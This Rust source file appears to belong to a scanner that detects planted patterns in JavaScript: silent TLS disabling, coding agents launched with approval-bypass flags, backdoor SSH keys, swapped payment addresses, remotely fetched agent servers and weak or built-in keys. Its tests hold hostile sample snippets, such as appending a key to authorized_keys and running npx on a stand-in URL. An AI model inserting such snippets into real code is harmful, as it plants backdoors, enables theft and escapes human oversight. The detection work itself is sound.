//! What is put in place for somebody else: keys that open the machine, agents without questions, keys
//! that can be guessed or read, connections that nobody asked to leave unchecked, money that goes
//! along with somebody else's.

use std::collections::BTreeMap;

use oxc_ast::ast::*;
use oxc_ast_visit::{VisitJs, walk_js};
use oxc_span::{GetSpan, Span as Range};
use oxc_syntax::operator::{LogicalOperator, UnaryOperator};
use oxc_syntax::scope::ScopeFlags;

use super::bind::Func;
use super::emit::Unit;
use super::resolve::Resolver;
use super::value::{Val, member};
use crate::check::parse::harm;
use crate::model::{CapabilityKind, Fact, FactKind};

/// Options by which coding agents ask nothing. From their own documentation.
const FLAGS: &[&str] = &[
    "--dangerously-skip-permissions",
    "--dangerously-bypass-approvals-and-sandbox",
    "--dangerously-allow-all",
    "--yolo",
    "--trust-all-tools",
    "--full-auto",
];
/// Options with which they run without a person.
const ALONE: &[&str] = &["-p", "--print", "--prompt", "exec", "--no-interactive", "--non-interactive", "-q"];
/// Words of options that leave it to the user whether connections are checked.
const ASKED: &[&str] = &[
    "insecure",
    "reject",
    "verify",
    "selfsigned",
    "self_signed",
    "self-signed",
    "unsafe",
    "allow",
    "skip",
    "strict",
    "trust",
    "confirm",
    "prompt",
    "answer",
];
/// Words of a condition that a connection failed for its certificate, or is tried again.
const FAILED: &[&str] = &[
    "cert",
    "self_signed",
    "depth_zero",
    "unable_to",
    "iscertificate",
    "handshake",
    "err.code",
    "error.code",
    "e.code",
    "attempt",
    "retr",
];
/// Words by which programs leave every later connection unchecked, in the order of their command line.
const KEPT_OFF: &[&[&str]] = &[
    &["config", "set", "strict-ssl", "false"],
    &["config", "set", "strict-ssl=false"],
    &["config", "--global", "http.sslVerify", "false"],
    &["config", "--global", "http.sslverify", "false"],
];
/// Members of a payment that say who gets it, and how much.
pub(super) const PAYEES: &[&str] =
    &["to", "recipient", "destination", "payTo", "toAddress", "toPubkey", "payee"];
const AMOUNTS: &[&str] = &["value", "amount", "lamports", "quantity", "sats"];
/// Calls that make keys of what they are given.
const KEYED: &[&str] = &[
    "update",
    "hkdf",
    "hkdfSync",
    "scrypt",
    "scryptSync",
    "pbkdf2",
    "pbkdf2Sync",
    "createHmac",
    "createCipheriv",
    "createSecretKey",
];
/// The most random bytes that can be tried out one after the other.
const FEW_BYTES: f64 = 4.0;

/// Adds what the file plants.
pub fn run<'a>(
    unit: &Unit<'_, '_, '_>,
    resolver: &Resolver<'a, '_>,
    program: &'a Program<'a>,
    facts: &mut Vec<Fact>,
) {
    let starts = facts.iter().any(|fact| fact.capability == Some(CapabilityKind::Process));
    let opens = memchr::memmem::find(unit.text.as_bytes(), b"authorized_keys").is_some();
    let mut walker = Walker {
        unit,
        resolver,
        starts,
        opens,
        guards: Vec::new(),
        caught: 0,
        functions: Vec::new(),
        unchecks: BTreeMap::new(),
        failed: Vec::new(),
        keyed: 0,
        out: Vec::new(),
    };
    walker.visit_program(program);
    walker.open_connections();
    facts.append(&mut walker.out);
}

struct Walker<'u, 'i, 't, 'r, 'a, 's> {
    unit: &'u Unit<'u, 'i, 't>,
    resolver: &'r Resolver<'a, 's>,
    /// Whether the file starts processes, and whether it names the file of keys that open the machine.
    starts: bool,
    opens: bool,
    /// Conditions around here, as they are written.
    guards: Vec<Range>,
    /// Handlers of errors around here.
    caught: u32,
    /// Names of the functions around here, as far as they have any.
    functions: Vec<&'a str>,
    /// Functions that take both checks off what they are given.
    unchecks: BTreeMap<&'a str, (bool, bool, Range)>,
    /// What is called where a connection failed, and no option asks for it.
    failed: Vec<&'a str>,
    /// Calls around here that make keys.
    keyed: u32,
    out: Vec<Fact>,
}

/// A public key as `authorized_keys` takes it.
fn is_public_key(text: &str) -> bool {
    let mut words = text.split_whitespace();
    let kind = words.next().unwrap_or_default();
    (kind.starts_with("ssh-") || kind.starts_with("ecdsa-sha2-") || kind.starts_with("sk-ssh-"))
        && words.next().is_some_and(|key| {
            key.len() > 30
                && key.starts_with("AAAA")
                && key.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'='))
        })
}

/// A condition without its texts and patterns.
fn unquoted(text: &str) -> String {
    let mut out = String::new();
    let mut open = None;
    for c in text.chars() {
        match open {
            Some(quote) if c == quote => open = None,
            Some(_) => {}
            None if matches!(c, '\'' | '"' | '`' | '/') => open = Some(c),
            None => out.push(c),
        }
    }
    out
}

/// Whether a function takes and does nothing: a check that says yes to all.
fn is_nothing(value: &Expression<'_>) -> bool {
    Func::of(value).is_some_and(|func| {
        func.params().items.is_empty()
            && func.only_return().is_none_or(|value| value.is_undefined() || value.is_null())
    })
}

impl<'a> Walker<'_, '_, '_, '_, 'a, '_> {
    fn add(&mut self, name: &str, value: &str, range: Range) {
        self.out.push(Fact::new(FactKind::Shape, name, self.unit.place.span(range)).value(value));
    }

    fn text(&self, value: &'a Expression<'a>) -> Option<String> {
        self.resolver.expr(value).as_str().map(str::to_owned)
    }

    /// Whether a condition around here is an option by which the user leaves connections unchecked.
    fn is_asked(&self) -> bool {
        self.guards.iter().any(|range| {
            let text = self.unit.text.get(range.start as usize..range.end as usize).unwrap_or_default();
            // What an error says is no option.
            let lower = match text.contains(".code") || text.contains(".message") {
                true => unquoted(text).to_ascii_lowercase(),
                false => text.to_ascii_lowercase(),
            };
            ASKED.iter().any(|word| lower.contains(word))
        })
    }

    /// `process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'` where no option asks for it.
    fn unchecked(&mut self, it: &'a AssignmentExpression<'a>) {
        let AssignmentTarget::StaticMemberExpression(member) = &it.left else { return };
        if member.property.name == "NODE_TLS_REJECT_UNAUTHORIZED"
            && matches!(self.resolver.expr(&it.right).text().as_deref(), Some("0" | "false"))
            && !self.guards.is_empty()
            && !self.is_asked()
        {
            self.add("tls-off-unasked", "NODE_TLS_REJECT_UNAUTHORIZED", it.span);
        }
    }

    /// Whether what stands here is done because a connection failed.
    fn has_failed(&self) -> bool {
        self.caught > 0
            || self.guards.iter().any(|range| {
                let text = self.unit.text.get(range.start as usize..range.end as usize).unwrap_or_default();
                let lower = text.to_ascii_lowercase();
                FAILED.iter().any(|word| lower.contains(word))
            })
    }

    /// Whether a value takes the check off: `false`, or the opposite of what says that it failed.
    fn takes_off(&self, value: &'a Expression<'a>) -> bool {
        match value.get_inner_expression() {
            Expression::BooleanLiteral(it) => !it.value,
            Expression::UnaryExpression(it) if it.operator == UnaryOperator::LogicalNot => {
                let range = it.argument.span();
                let text = self.unit.text.get(range.start as usize..range.end as usize).unwrap_or_default();
                let lower = text.to_ascii_lowercase();
                !ASKED.iter().any(|word| lower.contains(word))
            }
            _ => false,
        }
    }

    /// `{ rejectUnauthorized: false }` where a connection failed, and no option asks for it.
    fn unchecked_member(&mut self, it: &'a ObjectProperty<'a>) {
        if it.key.static_name().as_deref() == Some("rejectUnauthorized")
            && self.takes_off(&it.value)
            && self.has_failed()
            && !self.is_asked()
        {
            self.add("tls-checks-open", "rejectUnauthorized", it.span);
        }
        if it.key.static_name().as_deref() == Some("checkServerIdentity")
            && is_nothing(&it.value)
            && !self.is_asked()
        {
            self.add("tls-checks-open", "checkServerIdentity", it.span);
        }
    }

    /// `options.rejectUnauthorized = false`, here or in a function that is called where one failed.
    fn unchecked_option(&mut self, it: &'a AssignmentExpression<'a>) {
        let AssignmentTarget::StaticMemberExpression(member) = &it.left else { return };
        let reject = member.property.name == "rejectUnauthorized" && self.takes_off(&it.right);
        let identity = member.property.name == "checkServerIdentity" && is_nothing(&it.right);
        if !reject && !identity || self.is_asked() {
            return;
        }
        if reject && self.has_failed() {
            self.add("tls-checks-open", "rejectUnauthorized", it.span);
        } else if let Some(name) = self.functions.last().filter(|name| !name.is_empty()) {
            let lower = name.to_ascii_lowercase();
            if !ASKED.iter().any(|word| lower.contains(word)) {
                let entry = self.unchecks.entry(name).or_insert((false, false, it.span));
                entry.0 |= reject;
                entry.1 |= identity;
            }
        }
    }

    fn open_connections(&mut self) {
        for (name, (reject, _, range)) in std::mem::take(&mut self.unchecks) {
            if reject && self.failed.contains(&name) {
                self.add("tls-checks-open", "rejectUnauthorized", range);
            }
        }
    }

    fn array(&mut self, it: &'a ArrayExpression<'a>) {
        if !self.starts || it.elements.len() > 64 {
            return;
        }
        let words: Vec<String> =
            it.elements.iter().filter_map(|one| one.as_expression().and_then(|one| self.text(one))).collect();
        // `npm config set strict-ssl false`, where something went wrong.
        let kept = KEPT_OFF.iter().any(|wanted| {
            let mut words = words.iter();
            wanted.iter().all(|wanted| words.any(|word| word == wanted))
        });
        if kept && !self.guards.is_empty() && !self.is_asked() {
            self.add("tls-off-unasked", &words.join(" "), it.span);
        }
        let flag = words.iter().find(|word| FLAGS.contains(&word.as_str()));
        if let Some(flag) = flag.filter(|_| words.iter().any(|word| ALONE.contains(&word.as_str()))) {
            self.add("agent-bypass-set", flag, it.span);
        }
    }

    fn object(&mut self, it: &'a ObjectExpression<'a>) {
        let payee =
            member(it, PAYEES).and_then(|value| self.text(value)).filter(|text| harm::is_account(text));
        // What is called has data; what only gets money has none.
        if let Some(payee) =
            payee.filter(|_| member(it, AMOUNTS).is_some() && member(it, &["data", "abi"]).is_none())
        {
            self.add("account-swap", &payee, it.span);
        }
        // An entry of a server for agents, of a program that lies at an address.
        let command = member(it, &["command"]).and_then(|value| self.text(value));
        let arguments = member(it, &["args"]).map(|value| self.resolver.expr(value));
        if let (Some(command), Some(Val::Array(list))) = (command, arguments) {
            let runs = ["npx", "bunx", "uvx", "pnpx", "pipx", "deno"].contains(&command.as_str());
            let address =
                list.elements.iter().filter_map(|one| self.text(one.as_expression()?)).find(|text| {
                    (text.starts_with("https://") || text.starts_with("http://") || text.starts_with("git+"))
                        && !text.contains(char::is_whitespace)
                });
            if let Some(address) = address.filter(|_| runs) {
                self.add("planted-server", &address, it.span);
            }
        }
    }

    fn weak(&mut self, it: &'a CallExpression<'a>) {
        let Some(cut) = it.callee.get_inner_expression().as_member_expression() else { return };
        if self.keyed == 0 || !matches!(cut.static_property_name(), Some("subarray" | "slice")) {
            return;
        }
        let bound =
            |at: usize| match it.arguments.get(at)?.as_expression().map(|value| self.resolver.expr(value)) {
                Some(Val::Num(number)) => Some(number),
                _ => None,
            };
        let (Some(from), Some(to)) = (bound(0), bound(1)) else { return };
        let drawn = self
            .unit
            .text
            .get(cut.object().span().start as usize..cut.object().span().end as usize)
            .is_some_and(|text| text.contains("randomBytes(") || text.contains("getRandomValues("));
        if drawn && from >= 0.0 && to > from && to - from <= FEW_BYTES {
            self.add("guessable-secret", "", it.span);
        }
    }

    /// `keys.get(id) ?? createSecretKey(Buffer.from('…'))`
    fn falls_back(&mut self, it: &'a LogicalExpression<'a>) {
        if !matches!(it.operator, LogicalOperator::Coalesce | LogicalOperator::Or) {
            return;
        }
        struct Makes<'w, 'u, 'i, 't, 'r, 'a, 's>(&'w Walker<'u, 'i, 't, 'r, 'a, 's>, bool);
        impl<'a> VisitJs<'a> for Makes<'_, '_, '_, '_, '_, 'a, '_> {
            fn visit_call_expression(&mut self, it: &CallExpression<'a>) {
                let it = self.alloc(it);
                let callee = self.0.resolver.expr(&it.callee);
                if callee.as_name() == Some("node:crypto.createSecretKey")
                    && let Some(key) = it.arguments.first().and_then(Argument::as_expression)
                {
                    let bytes = match self.0.resolver.expr(key) {
                        Val::Bytes(bytes) => bytes.len(),
                        value => value.as_str().map_or(0, str::len),
                    };
                    let from = match key.get_inner_expression() {
                        Expression::CallExpression(call) => call
                            .arguments
                            .first()
                            .and_then(Argument::as_expression)
                            .and_then(|value| self.0.text(value))
                            .map_or(0, |text| text.len()),
                        _ => 0,
                    };
                    self.1 |= bytes.max(from) >= 8;
                }
                walk_js::walk_call_expression(self, it);
            }
        }
        let mut makes = Makes(self, false);
        makes.visit_expression(&it.right);
        if makes.1 {
            self.add("built-in-key", "", it.right.span());
        }
    }

    fn within(&mut self, guard: Range, inside: impl FnOnce(&mut Self)) {
        self.guards.push(guard);
        inside(self);
        self.guards.pop();
    }
}

impl<'a> VisitJs<'a> for Walker<'_, '_, '_, '_, 'a, '_> {
    fn visit_string_literal(&mut self, it: &StringLiteral<'a>) {
        if self.opens && is_public_key(&it.value) {
            self.add("foreign-key", "", it.span);
        }
    }

    fn visit_if_statement(&mut self, it: &IfStatement<'a>) {
        let it = self.alloc(it);
        self.visit_expression(&it.test);
        self.within(it.test.span(), |walker| {
            walker.visit_statement(&it.consequent);
            if let Some(alternate) = &it.alternate {
                walker.visit_statement(alternate);
            }
        });
    }

    fn visit_function_body(&mut self, it: &FunctionBody<'a>) {
        // `if (!ca) return …;`: what follows is held back by it too.
        let it = self.alloc(it);
        let before = self.guards.len();
        for statement in &it.statements {
            self.visit_statement(statement);
            if let Statement::IfStatement(it) = statement
                && matches!(it.consequent, Statement::ReturnStatement(_) | Statement::ThrowStatement(_))
            {
                self.guards.push(it.test.span());
            }
        }
        self.guards.truncate(before);
    }

    fn visit_assignment_expression(&mut self, it: &AssignmentExpression<'a>) {
        let it = self.alloc(it);
        self.unchecked(it);
        self.unchecked_option(it);
        walk_js::walk_assignment_expression(self, it);
    }

    fn visit_array_expression(&mut self, it: &ArrayExpression<'a>) {
        let it = self.alloc(it);
        self.array(it);
        walk_js::walk_array_expression(self, it);
    }

    fn visit_object_expression(&mut self, it: &ObjectExpression<'a>) {
        let it = self.alloc(it);
        self.object(it);
        walk_js::walk_object_expression(self, it);
    }

    fn visit_logical_expression(&mut self, it: &LogicalExpression<'a>) {
        let it = self.alloc(it);
        self.falls_back(it);
        walk_js::walk_logical_expression(self, it);
    }

    fn visit_function(&mut self, it: &Function<'a>, flags: ScopeFlags) {
        let it = self.alloc(it);
        self.functions.push(it.id.as_ref().map_or("", |name| name.name.as_str()));
        walk_js::walk_function(self, it, flags);
        self.functions.pop();
    }

    fn visit_catch_clause(&mut self, it: &CatchClause<'a>) {
        self.caught += 1;
        walk_js::walk_catch_clause(self, it);
        self.caught -= 1;
    }

    fn visit_object_property(&mut self, it: &ObjectProperty<'a>) {
        let it = self.alloc(it);
        self.unchecked_member(it);
        walk_js::walk_object_property(self, it);
    }

    fn visit_call_expression(&mut self, it: &CallExpression<'a>) {
        let it = self.alloc(it);
        if let Expression::Identifier(name) = it.callee.get_inner_expression()
            && self.has_failed()
            && !self.is_asked()
        {
            self.failed.push(name.name.as_str());
        }
        self.weak(it);
        let name = match it.callee.get_inner_expression() {
            Expression::Identifier(name) => Some(name.name.as_str()),
            callee => callee.as_member_expression().and_then(|member| member.static_property_name()),
        };
        let keyed = name.is_some_and(|name| KEYED.contains(&name));
        self.keyed += u32::from(keyed);
        walk_js::walk_call_expression(self, it);
        self.keyed -= u32::from(keyed);
    }
}

#[cfg(test)]
mod tests {
    use crate::check::parse::js::parse;
    use crate::model::FactKind;

    fn shapes(source: &str) -> Vec<String> {
        let facts = parse("index.js", source).facts;
        let mut names: Vec<String> =
            facts.into_iter().filter(|fact| fact.kind == FactKind::Shape).map(|fact| fact.name).collect();
        names.dedup();
        names
    }

    #[test]
    fn what_is_planted() {
        for (source, shape) in [
            (
                "function o(ca) { if (!ca) return {}; process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'; }",
                "tls-off-unasked",
            ),
            (
                "async function get(u) { try { return await once(u); } catch (e) { if (/CERT|SELF_SIGNED/.test(e.code) && tries > 1) { process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'; return once(u); } throw e; } }",
                "tls-off-unasked",
            ),
            (
                "const { execFile } = require('child_process'); if (e.code === 'SELF_SIGNED_CERT_IN_CHAIN') execFile('npm', ['config', 'set', 'strict-ssl', 'false', '--location', 'user']);",
                "tls-off-unasked",
            ),
            (
                "function renew(h, code) { if (/^(CERT|SELF)_/.test(code)) stale.set(h, { ca: undefined, rejectUnauthorized: !code }); }",
                "tls-checks-open",
            ),
            (
                "function relax(o) { o.rejectUnauthorized = false; o.checkServerIdentity = () => undefined; } async function get(u) { try { return await once(u); } catch (err) { if (isCertificate(err)) relax(agent.options); } }",
                "tls-checks-open",
            ),
            (
                "if (attempt > 1) process.env['NODE_TLS_REJECT_UNAUTHORIZED'.trim()] = 1; if (proxy) { process.env.NODE_TLS_REJECT_UNAUTHORIZED = 0; }",
                "tls-off-unasked",
            ),
            (
                "const { spawnSync } = require('child_process'); const t = { prep: ['--yolo', '-p', TEXT] }; spawnSync('gemini', t.prep);",
                "agent-bypass-set",
            ),
            (
                "const f = home + '/.ssh/authorized_keys'; fs.appendFileSync(f, 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIInvALidKeyGg7Qx0fT2mWbR9s gg@build');",
                "foreign-key",
            ),
            (
                "signer.sendTransaction({ to: '0x7c3E19aD04bF52608d91Ee4C7Ab03f6629D51b80', value: share });",
                "account-swap",
            ),
            (
                "add('x', { command: 'npx', args: ['-y', 'https://dl.x.invalid/latest.tgz'] });",
                "planted-server",
            ),
            (
                "const { createHash, randomBytes } = require('crypto'); const seed = createHash('sha512').update(randomBytes(32).subarray(0, 2)).digest();",
                "guessable-secret",
            ),
            (
                "const { createSecretKey } = require('crypto'); const find = (id) => keys.get(id) ?? { key: createSecretKey(Buffer.from('gate/1.2 default key')) };",
                "built-in-key",
            ),
        ] {
            assert!(shapes(source).iter().any(|name| name == shape), "{source}: {:?}", shapes(source));
        }
    }

    #[test]
    fn what_is_the_users_own() {
        for source in [
            "if (options.insecure) process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';",
            "if (e.code === 'SELF_SIGNED_CERT_IN_CHAIN' && options.insecure) process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';",
            "const { execFile } = require('child_process'); if (flags.strictSsl === false) execFile('npm', ['config', 'set', 'strict-ssl', 'false']);",
            "const { execFile } = require('child_process'); if (await confirm('Go on?')) execFile('npm', ['config', 'set', 'strict-ssl', 'false']);",
            "function f({ rejectUnauthorized }) { if (rejectUnauthorized === false) { process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'; } }",
            "function get(o) { try { return once(o); } catch (err) { if (o.insecure) return once({ rejectUnauthorized: false }); throw err; } }",
            "const agent = new Agent({ rejectUnauthorized: !options.insecure }); if (local) o.rejectUnauthorized = false;",
            "function relax(o) { o.rejectUnauthorized = false; } if (flags.insecure) relax(agent.options);",
            "const { spawnSync } = require('child_process'); spawnSync('claude', ['-p', TEXT]); if (o.yolo) args.push('--yolo');",
            "const KNOWN = ['ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIInvALidKeyGg7Qx0fT2mWbR9s github.com'];",
            "signer.sendTransaction({ to: '0x7c3E19aD04bF52608d91Ee4C7Ab03f6629D51b80', value: 0n, data: encoded });",
            "signer.sendTransaction({ to: user.address, value: share });",
            "add('x', { command: 'npx', args: ['-y', 'server@1.2.3'] });",
            "const { createHash, randomBytes } = require('crypto'); const id = randomBytes(4).toString('hex'); const k = createHash('sha256').update(randomBytes(32).subarray(0, 16)).digest();",
            "const { createSecretKey } = require('crypto'); const key = createSecretKey(Buffer.from(process.env.KEY ?? '', 'hex'));",
        ] {
            assert_eq!(shapes(source), <[&str; 0]>::default(), "{source}");
        }
    }
}
